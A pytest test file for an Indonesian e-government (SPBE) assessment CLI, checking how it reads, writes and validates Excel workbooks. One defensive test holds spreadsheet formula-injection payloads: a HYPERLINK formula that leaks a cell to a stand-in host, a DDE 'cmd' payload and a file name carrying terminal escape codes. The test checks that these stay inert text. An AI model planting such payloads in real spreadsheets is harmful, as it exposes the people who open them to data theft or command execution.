"""Workbooks through the command line: the official's loop (init, fill in, score, diff), every
command reading .xlsx, problems located by cell in every validate format, and what the workbook
must be to be handed to an official (protected formulas, drop-downs, print setup, inert text)."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from conftest import EXAMPLES, ROOT, bundled
from typer.testing import CliRunner

from spbe_cli.cli.main import app

openpyxl = pytest.importorskip("openpyxl")
BUNDLED = [
    "permenpanrb-59-2020",
    pytest.param("permenpanrb-5-2018", marks=pytest.mark.slow),
    pytest.param("pemdi-8-2026", marks=pytest.mark.slow),
]


def run(*args: str) -> Any:
    return CliRunner().invoke(app, list(args))


def ok(*args: str) -> Any:
    result = run(*args)
    assert result.exit_code == 0, result.output
    return result


def score_json(path: Path, *extra: str) -> dict[str, Any]:
    record = json.loads(ok("score", str(path), "-f", "json", *extra).stdout)
    record.pop("file")
    return record


def fill(book: Path, levels: dict[str, int], out: Path) -> Path:
    """Type levels into the level cells (column E, from row 2) as an official would."""
    made = openpyxl.load_workbook(book)
    sheet = made.worksheets[1]
    for row in range(2, sheet.max_row + 1):
        ident = sheet.cell(row=row, column=1).value
        if str(ident) in levels:
            sheet.cell(row=row, column=5).value = levels[str(ident)]
    made.save(out)
    return out


@pytest.mark.parametrize("rubric_id", BUNDLED)
def test_a_filled_in_workbook_scores_exactly_as_yaml(rubric_id: str, tmp_path: Path) -> None:
    form = tmp_path / "kota-2024.xlsx"
    ok("init", "--rubric", rubric_id, "--instansi", "Kota Uji", "--tahun", "2024", "-o", str(form))
    refused = run("score", str(form))
    assert refused.exit_code == 2
    assert "kota-2024.xlsx:Indikator!E2: error[SPBE104]" in refused.output
    rubric = bundled(rubric_id)
    span = range(rubric.level_min, rubric.level_max + 1)
    levels = {i.key: span[(n * 7 + 3) % len(span)] for n, i in enumerate(rubric.indicators)}
    filled = fill(form, levels, tmp_path / "filled.xlsx")
    same = tmp_path / "same.yaml"
    data = {"rubrik": rubric_id, "instansi": {"nama": "Kota Uji"}, "tahun": 2024}
    data["indikator"] = dict(levels)
    same.write_text(yaml.safe_dump(data), encoding="utf-8")
    assert score_json(filled) == score_json(same)


@pytest.mark.slow
def test_the_score_workbook_of_one_file_reads_back(tmp_path: Path) -> None:
    for source, extra in (
        (EXAMPLES / "kota-contoh-2019.yaml", ()),
        (EXAMPLES / "kota-contoh-2022.yaml", ("--lang", "en")),
    ):
        out = tmp_path / f"{source.stem}.xlsx"
        ok("score", str(source), "-f", "xlsx", "-o", str(out), *extra)
        assert score_json(out) == score_json(source)


def test_a_draft_exports_and_reads_back_as_a_draft(tmp_path: Path) -> None:
    draft = tmp_path / "draft.yaml"
    text = (EXAMPLES / "kota-contoh-2022.yaml").read_text(encoding="utf-8")
    draft.write_text(re.sub(r"^  (12|30):\n    level: \d", r"  \1:\n    level:", text, flags=re.M))
    out = tmp_path / "draft.xlsx"
    ok("score", "--partial", str(draft), "-f", "xlsx", "-o", str(out))
    assert score_json(out, "--partial") == score_json(draft, "--partial")
    summary = openpyxl.load_workbook(out).worksheets[0]
    assert summary["D13"].value.startswith('=IF(F13="",""')  # the index waits for every level
    assert summary["G13"].value.startswith('=IF(F13<>"","",ROUND(')  # lowest while a draft


@pytest.mark.slow
def test_the_officials_loop_diff_of_two_workbooks(tmp_path: Path) -> None:
    old, new = tmp_path / "kota-2021.xlsx", tmp_path / "kota-2022.xlsx"
    ok("convert", str(EXAMPLES / "kota-contoh-2021.yaml"), "-o", str(old))
    ok("init", "--from", str(old), "-o", str(new))  # --from a workbook
    assert score_json(new, "--partial")["tahun"] == 2022
    result = ok("diff", str(old), str(EXAMPLES / "kota-contoh-2022.yaml"), "-f", "json")
    assert json.loads(result.stdout)["index"]["delta"] == 1.10


@pytest.mark.slow
def test_every_command_reads_workbooks(tmp_path: Path) -> None:
    folder = tmp_path / "arsip"
    folder.mkdir()
    for year in (2021, 2022):
        ok(
            "convert",
            str(EXAMPLES / f"kota-contoh-{year}.yaml"),
            "-o",
            str(folder / f"{year}.xlsx"),
        )
    shutil.copy(EXAMPLES / "kota-contoh-2022-dokumen.yaml", folder)
    assert "3 berkas, 3 sah" in ok("validate", str(folder)).output
    ranked = json.loads(ok("rank", str(folder), "--allow-mixed", "-f", "json").stdout)
    assert len(ranked["rows"]) == 3
    ok("plan", str(folder / "2022.xlsx"), "--target", "3.5")
    ok(
        "report",
        str(folder / "2021.xlsx"),
        str(folder / "2022.xlsx"),
        "-o",
        str(tmp_path / "r.html"),
    )
    trend = ok("diff", *(str(p) for p in sorted(folder.iterdir())), "-f", "json")
    assert len(json.loads(trend.stdout)["files"]) == 3


@pytest.fixture(scope="module")
def bad_book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("bad")
    book = folder / "kota-2024.xlsx"
    ok("convert", str(EXAMPLES / "kota-contoh-2026.yaml"), "-o", str(book))
    made = openpyxl.load_workbook(book)
    made.worksheets[1]["E9"].value = "3"
    made.worksheets[1]["E9"].data_type = "s"
    made.save(book)
    return book


def test_validate_names_the_cell_in_every_format(bad_book: Path) -> None:
    line = "kota-2024.xlsx:Indikator!E9: error[SPBE103]: the level of indicator 8 must be"
    text = run("validate", str(bad_book), "--lang", "en")
    assert text.exit_code == 1 and line in text.output
    assert "^" not in text.output  # no excerpt: a workbook has no text lines to show
    github = run("validate", str(bad_book), "-f", "github").output
    annotation = r"^::error file=[^,]*kota-2024\.xlsx,title=SPBE103::\[SPBE103\] Indikator!E9: "
    assert re.search(annotation, github, re.M)
    records = json.loads(run("validate", str(bad_book), "-f", "json").stdout)
    record = records[0]
    assert (record["cell"], record["line"], record["column"]) == ("Indikator!E9", 9, 5)
    schema = json.loads((ROOT / "schemas" / "output" / "validate.schema.json").read_text())
    jsonschema.Draft202012Validator(schema).validate(records)  # `cell` is in the contract
    junit = run("validate", str(bad_book), "-f", "junit").stdout
    assert "kota-2024.xlsx:Indikator!E9: error[SPBE103]" in junit


@pytest.fixture(scope="module")
def one_book(tmp_path_factory: pytest.TempPathFactory) -> Any:
    out = tmp_path_factory.mktemp("one") / "kota.xlsx"
    ok("score", str(EXAMPLES / "kota-contoh-2022.yaml"), "-f", "xlsx", "-o", str(out))
    return openpyxl.load_workbook(out)


def test_sheets_marker_and_the_agency_named(one_book: Any) -> None:
    assert one_book.sheetnames == ["Ringkasan", "Indikator", "Kriteria", "Skala", "spbe"]
    assert one_book["spbe"].sheet_state == "hidden"
    marker = {r[0]: r[1] for r in one_book["spbe"].iter_rows(min_row=2, values_only=True)}
    assert (marker["format"], marker["kind"], marker["rubric"]) == (
        1,
        "assessment",
        "permenpanrb-59-2020",
    )
    summary = one_book["Ringkasan"]
    assert summary["B5"].value == "Pemerintah Kota Contoh"
    assert "Pemerintah Kota Contoh" in summary.oddHeader.center.text
    assert "Pemerintah Kota Contoh" in one_book.properties.title


def test_formula_cells_locked_input_cells_open(one_book: Any) -> None:
    for sheet in ("Ringkasan", "Indikator"):
        assert one_book[sheet].protection.sheet and not one_book[sheet].protection.password
    ind = one_book["Indikator"]
    assert ind.freeze_panes == "E2"
    assert [ind[f"{c}2"].protection.locked for c in "EIJ"] == [False, False, False]
    assert [ind[f"{c}2"].protection.locked for c in "AFGH"] == [True] * 4
    assert ind["F2"].value.startswith("=IFERROR(INDEX('Skala'!")  # level name from the scale sheet
    assert not one_book["Ringkasan"]["B5"].protection.locked
    assert one_book["Ringkasan"]["B4"].protection.locked  # the rubric decides the rows


def test_level_drop_downs_with_names_and_criteria(one_book: Any) -> None:
    ind = one_book["Indikator"]
    level = [dv for dv in ind.data_validations.dataValidation if str(dv.sqref) == "E2"]
    assert len(level) == 1
    dv = level[0]
    assert (dv.type, dv.formula1) == ("list", '"1,2,3,4,5"')
    assert dv.prompt.startswith("1 Rintisan: Konsep kebijakan internal")
    assert "5 Optimum" in dv.prompt and len(dv.prompt) <= 255 and len(dv.promptTitle) <= 32
    for dv in ind.data_validations.dataValidation:
        assert len(dv.prompt or "") <= 255 and len(dv.error or "") <= 255
    criteria = one_book["Kriteria"]
    assert criteria["E2"].value.startswith("Apakah Instansi Pusat")  # the question, in full
    assert criteria["E3"].value == bundled("permenpanrb-59-2020").indicators[0].criteria[1]


def test_print_setup_widths_and_number_formats(one_book: Any) -> None:
    for ws in one_book.worksheets[:4]:
        assert ws.page_setup.orientation == "landscape" and str(ws.page_setup.paperSize) == "9"
        assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
    ind = one_book["Indikator"]
    assert ind.print_title_rows == "$1:$1"
    assert ind.column_dimensions["H"].width < 20  # sized by "0.039", not by its formula's text
    assert ind["H2"].number_format == "0.00##"  # 0.039 shows 0.039; 3 × 2.75 / 100 = 0.0825
    summary = one_book["Ringkasan"]
    assert summary["D13"].number_format == "0.00"
    assert summary["F16"].number_format == "0.00####"  # domain 3 divides by 16.5: it repeats


@pytest.mark.slow
def test_a_batch_is_one_sheet_per_kind(tmp_path: Path) -> None:
    out = tmp_path / "semua.xlsx"
    ok("score", str(EXAMPLES), "-f", "xlsx", "-o", str(out))
    made = openpyxl.load_workbook(out)
    assert made.sheetnames == ["Ringkasan", "Domain", "Aspek", "Indikator", "Skala", "spbe"]
    files = {row[0] for row in made["Indikator"].iter_rows(min_row=2, values_only=True)}
    assert len(files) == 5 and all(str(f).endswith(".yaml") for f in files)
    head = [c.value for c in made["Aspek"][1]]
    assert head[:3] == ["Berkas", "Instansi", "ID"]
    refused = run("score", str(out))
    assert refused.exit_code == 2 and "SPBE033" in refused.output


def test_text_from_files_is_never_a_formula(tmp_path: Path) -> None:
    payloads = {
        "nama": '=HYPERLINK("http://x.example/?d="&B2,"Klik")',
        "provinsi": "=cmd|' /C calc'!A0",
        # Control characters in a file's text are refused by validation since issue 13
        # (SPBE112); a file's name still brings them, below.
        "penjelasan": "@SUM(1+1)",
        "bukti": ["=1+2", "#N/A", "+62 812"],
    }
    data = {
        "rubrik": "pemdi-8-2026",
        "instansi": {"nama": payloads["nama"], "provinsi": payloads["provinsi"]},
        "tahun": 2026,
        "indikator": {
            str(n): {
                "level": 3,
                "penjelasan": payloads["penjelasan"],
                "bukti_dukung": payloads["bukti"],
            }
            for n in range(1, 21)
        },
    }
    source = tmp_path / "=1+2\x1b[2J\x0b.json"
    source.write_text(json.dumps(data), encoding="utf-8")
    (tmp_path / "b.json").write_text(json.dumps(data), encoding="utf-8")
    outputs = {
        "one": ("score", str(source)),
        "batch": ("score", str(source), str(tmp_path / "b.json")),
        "rank": ("rank", str(source), str(tmp_path / "b.json")),
        "diff": ("diff", str(source), str(tmp_path / "b.json")),
    }
    ours = re.compile(r"=(IF|IFERROR|ROUND|COUNT|SUMPRODUCT)\(|=[A-Z]\d+-[A-Z]\d+$|=\(E\d+-D\d+\)")
    for name, args in outputs.items():
        out = tmp_path / f"{name}.xlsx"
        result = run(*args, "-f", "xlsx", "-o", str(out))
        assert result.exit_code == 0, (name, result.output)
        for ws in openpyxl.load_workbook(out).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert ours.match(cell.value), (name, ws.title, cell.coordinate, cell.value)
                    elif isinstance(cell.value, str) and cell.value[:1] in "=#+@":
                        assert cell.data_type == "s", (name, ws.title, cell.coordinate)
    doc = json.loads(ok("score", str(tmp_path / "one.xlsx"), "-f", "json").stdout)
    assert doc["instansi"]["nama"] == payloads["nama"]  # read back exactly, still text
    assert doc["instansi"]["provinsi"] == payloads["provinsi"]


def test_rank_says_tied_in_words(tmp_path: Path) -> None:
    for name in ("a", "b"):
        shutil.copy(EXAMPLES / "kota-contoh-2022.yaml", tmp_path / f"{name}.yaml")
    out = tmp_path / "r.xlsx"
    ok("rank", str(tmp_path), "-f", "xlsx", "-o", str(out), "--lang", "en")
    ws = openpyxl.load_workbook(out)["Ranking"]
    assert [ws.cell(r, 2).value for r in (2, 3)] == ["yes", "yes"]
    assert not any(isinstance(c.value, bool) for row in ws.iter_rows() for c in row)
